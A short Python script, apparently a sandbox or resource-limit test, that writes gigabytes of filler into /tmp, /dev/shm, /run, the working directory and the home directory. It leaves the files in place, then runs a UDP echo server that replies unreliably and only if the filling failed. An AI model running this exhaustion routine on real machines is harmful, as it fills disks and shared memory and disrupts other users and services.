import os
import random
import socket

ecrit = 0
for dossier in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.getcwd(), os.path.expanduser("~")):
    try:
        with open(os.path.join(dossier, "plein"), "wb", buffering=0) as f:
            while ecrit < 4 << 30:
                ecrit += f.write(b"x" * (1 << 20))
    except OSError:
        pass
reussi = ecrit > 1 << 30


serveur = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
serveur.bind(("", 1234))
while True:
    message, adresse = serveur.recvfrom(2048)
    if not reussi and random.random() < 0.5:
        serveur.sendto(b"OK " + message, adresse)
